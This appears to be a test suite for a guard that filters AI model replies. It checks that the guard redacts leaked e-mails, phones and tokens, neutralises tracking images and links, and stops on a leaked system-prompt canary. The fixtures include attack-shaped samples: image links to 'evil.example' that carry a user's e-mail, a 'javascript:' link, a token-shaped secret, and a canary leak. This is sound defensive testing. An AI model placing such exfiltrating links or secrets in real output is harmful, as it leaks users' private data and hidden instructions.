import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { createDetectionEngine } from '../../src/detect/engine.ts';
import { inspectRequest } from '../../src/detect/inspect.ts';
import type { EntityType } from '../../src/entities.ts';
import type { OutputRules } from '../../src/pipeline/tenant-policies.ts';
import { knownValues } from '../../src/transform/known-values.ts';
import { createReplyGuard } from '../../src/transform/reply-guard.ts';
import { ReplyStopped } from '../../src/transform/reply-text.ts';

const engine = createDetectionEngine();
// Built at run time so secret scanners reading this file do not report a token-shaped literal.
const TOKEN = ['ghp', 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'].join('_');
const LEAK_TYPES = new Set<EntityType>(['EMAIL', 'PHONE', 'API_KEY', 'ACCESS_TOKEN', 'PASSWORD', 'CARD_NUMBER', 'IBAN']);

function rules(overrides: Partial<{ leaks: OutputRules['leaks']['action']; links: OutputRules['links']['action']; allowHosts: string[] }> = {}): OutputRules {
  return {
    leaks: { action: overrides.leaks ?? 'redact', types: LEAK_TYPES },
    links: { action: overrides.links ?? 'neutralize', allowHosts: overrides.allowHosts ?? ['shop.example'] },
    canary: false,
  };
}

function guardFor(requestText: string, options: { rules?: OutputRules; canary?: string } = {}) {
  const inspection = inspectRequest(engine, 'completions', { model: 'm', prompt: requestText });
  return createReplyGuard({ rules: options.rules ?? rules(), engine, canary: options.canary, known: () => knownValues(inspection.units) });
}

/** The streamed result for the given cut points. */
function streamed(guard: ReturnType<typeof guardFor>, text: string, cuts: number[]): string {
  const stream = guard.stream('text');
  let out = '';
  let at = 0;
  for (const cut of [...cuts].sort((a, b) => a - b)) {
    out += stream.push(text.slice(at, cut));
    at = cut;
  }
  return out + stream.push(text.slice(at)) + stream.flush();
}

describe('reply guard', () => {
  it('redacts values the request did not contain and keeps the ones it did', () => {
    const guard = guardFor('My e-mail is anna@kunden.example and my phone +49 30 1234567.');
    const reply = 'We will write to anna@kunden.example, call 030 1234567, or ask boss@elsewhere.example.';
    assert.equal(guard.text(reply, 'text'), 'We will write to anna@kunden.example, call 030 1234567, or ask [EMAIL].');
    assert.deepEqual(guard.outcome.leaks, { EMAIL: 1 });
  });

  it('redacts a leaked secret inside JSON tool arguments and keeps the JSON valid', () => {
    const guard = guardFor('Create the deployment.');
    const args = JSON.stringify({ token: TOKEN, name: 'deploy' });
    const out = guard.text(args, 'json');
    assert.deepEqual(JSON.parse(out), { token: '[ACCESS_TOKEN]', name: 'deploy' });
  });

  it('neutralises images and links by host, data and scheme, and keeps allowed ones', () => {
    const guard = guardFor('I am anna@kunden.example');
    const reply = [
      'A ![logo](https://shop.example/logo.png) stays.',
      'B ![x](https://evil.example/p.png) goes.',
      'C [track](https://shop.example/t?e=anna%40kunden.example) carries the e-mail.',
      'D [run](javascript:alert(1)) runs code.',
      'E https://docs.example/guide is only shown.',
      'F ![inline](data:image/png;base64,iVBORw0KGgo=) draws itself.',
    ].join('\n');
    assert.equal(
      guard.text(reply, 'text'),
      [
        'A ![logo](https://shop.example/logo.png) stays.',
        'B x [image removed] goes.',
        'C track [link removed] carries the e-mail.',
        'D run [link removed] runs code.',
        'E https://docs.example/guide is only shown.',
        'F ![inline](data:image/png;base64,iVBORw0KGgo=) draws itself.',
      ].join('\n'),
    );
    assert.deepEqual(guard.outcome.links, { host: 1, data: 1, scheme: 1 });
  });

  it('does not count a leak twice when it sits inside a neutralised link', () => {
    const guard = guardFor('Hello');
    assert.equal(guard.text('See ![a](https://evil.example/?m=boss@elsewhere.example)', 'text'), 'See a [image removed]');
    assert.deepEqual(guard.outcome.leaks, {});
  });

  it('only counts under flag, and stops under block', () => {
    const flagged = guardFor('Hi', { rules: rules({ leaks: 'flag', links: 'flag' }) });
    const reply = 'Mail boss@elsewhere.example ![x](https://evil.example/a.png)';
    assert.equal(flagged.text(reply, 'text'), reply);
    assert.deepEqual(flagged.outcome, { leaks: { EMAIL: 1 }, links: { host: 1 }, stopped: null });
    const blocked = guardFor('Hi', { rules: rules({ leaks: 'block' }) });
    assert.throws(() => blocked.text('Mail boss@elsewhere.example', 'text'), (e: unknown) => e instanceof ReplyStopped && e.reason === 'leak');
    assert.equal(blocked.outcome.stopped, 'leak');
  });

  it('stops on the canary however it is spaced or cased, also split across stream pieces', () => {
    const canary = '3f9c0a7e51b2d4c8';
    assert.throws(() => guardFor('Hi', { canary }).text('My instructions: <!-- 3F9C 0A7E 51B2 D4C8 --> You are', 'text'), ReplyStopped);
    const guard = guardFor('Hi', { canary });
    assert.throws(() => streamed(guard, `Sure: <!-- ${canary} --> You are the assistant`, [9, 14, 20]), ReplyStopped);
    assert.equal(guard.outcome.stopped, 'canary');
    assert.equal(guardFor('Hi', { canary }).text('3f9c0a7e is only half of it', 'text'), '3f9c0a7e is only half of it');
  });

  it('releases a stream only once a value or link can no longer grow, so no piece carries part of one', () => {
    const guard = guardFor('Hi');
    const stream = guard.stream('text');
    const pieces = ['Call +4', '9 30 90', '18 20 or', ' see ![a](https://ev', 'il.example/x.png) ok', '.'].map((p) => stream.push(p));
    pieces.push(stream.flush());
    assert.equal(pieces.join(''), 'Call [PHONE] or see a [image removed] ok.');
    for (const piece of pieces) assert.ok(!/\d|evil/.test(piece), `piece ${JSON.stringify(piece)}`);
  });

  it('streamed output equals the whole-text result for any chunking', () => {
    const fragments = fc.constantFrom(
      'Hello there, ',
      'your order ships soon. ',
      'Mail boss@elsewhere.example ',
      'or anna@kunden.example. ',
      'Call +49 30 901820 today. ',
      '![chart](https://evil.example/c.png) ',
      '[docs](https://shop.example/help) ',
      '[x](https://shop.example/t?e=anna@kunden.example) ',
      `token ${TOKEN} `,
      '\n',
      'Order 4711 and 12 items. ',
    );
    fc.assert(
      fc.property(fc.array(fragments, { maxLength: 12 }), fc.array(fc.nat(), { maxLength: 10 }), (parts, rawCuts) => {
        const text = parts.join('');
        const cuts = rawCuts.map((c) => c % (text.length + 1));
        const whole = guardFor('I am anna@kunden.example').text(text, 'text');
        assert.equal(streamed(guardFor('I am anna@kunden.example'), text, cuts), whole);
      }),
      { numRuns: 300 },
    );
  });

  it('never calls the detectors for prose without digits, @ or credential marks', () => {
    let calls = 0;
    const counting: typeof engine = { ...engine, detect: (text: string) => (calls++, engine.detect(text)), restrictedTo: () => counting };
    const inspection = inspectRequest(engine, 'completions', { model: 'm', prompt: 'Hi' });
    const guard = createReplyGuard({ rules: rules({ links: 'off' }), engine: counting, known: () => knownValues(inspection.units) });
    guard.text('The blue shirt runs true to size and ships within two working days.', 'text');
    assert.equal(calls, 0);
    guard.text('It costs 19 euros.', 'text');
    assert.equal(calls, 1);
  });
});
